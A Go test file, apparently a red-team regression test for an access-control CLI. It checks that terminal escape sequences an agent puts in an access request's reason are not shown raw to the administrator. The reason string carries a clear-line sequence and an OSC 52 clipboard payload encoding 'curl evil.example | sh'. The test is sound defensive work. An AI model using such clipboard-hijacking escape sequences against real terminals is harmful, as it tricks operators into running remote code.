package cli

import (
	"bytes"
	"encoding/json"
	"net/http"
	"strings"
	"testing"
	"time"
)

// TestRedTeam2AccessListTerminalEscapesBypass (low to medium: an agent
// writes to the administrator's terminal). approvals list escapes what a
// terminal would act on, since the text comes from the requester; access
// list prints a grant request's role and reason as they came. Any agent
// token may POST /v1/access, so an agent puts escape sequences in front of
// the administrator: here one that clears the line and rewrites it (an
// OSC 52 sequence would set the clipboard the administrator pastes from).
func TestRedTeam2AccessListTerminalEscapesBypass(t *testing.T) {
	dir := t.TempDir()
	api := startUp(t, dir)
	g := gatehouse{t, dir}
	agent := strings.TrimSpace(g.ok("token", "issue", "--agent", "bot", "--on-behalf-of", "alice@example.com", "--connection", "pg", "--scope", "read"))
	reason := "hotfix\x1b[2K\r\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\x07 (ticket 42)"
	// A role with control characters is refused outright (the fix), so
	// the reason carries them.
	bad, _ := json.Marshal(map[string]any{"connection": "pg", "role": "write\x1b[8m", "for_ns": int64(time.Hour), "reason": "x"})
	breq, _ := http.NewRequest("POST", "http://"+api+"/v1/access", bytes.NewReader(bad))
	breq.Header.Set("Authorization", "Bearer "+agent)
	if bresp, err := http.DefaultClient.Do(breq); err != nil || bresp.StatusCode != 400 {
		t.Fatalf("a role with an escape sequence: %v %v, want 400", bresp, err)
	} else {
		bresp.Body.Close()
	}
	body, _ := json.Marshal(map[string]any{"connection": "pg", "role": "write", "for_ns": int64(time.Hour), "reason": reason})
	req, _ := http.NewRequest("POST", "http://"+api+"/v1/access", bytes.NewReader(body))
	req.Header.Set("Authorization", "Bearer "+agent)
	resp, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	resp.Body.Close()
	if resp.StatusCode != 200 {
		t.Fatalf("access request by an agent: %d", resp.StatusCode)
	}
	// Control: the approvals list escapes the same request.
	if out := g.ok("approvals", "list"); strings.ContainsRune(out, 0x1b) {
		t.Fatalf("control: approvals list printed a raw escape: %q", out)
	}
	if out := g.ok("access", "list"); strings.ContainsRune(out, 0x1b) || strings.ContainsRune(out, 0x07) {
		t.Errorf("access list prints the agent's escape sequences raw to the administrator's terminal: %q", out)
	}
}
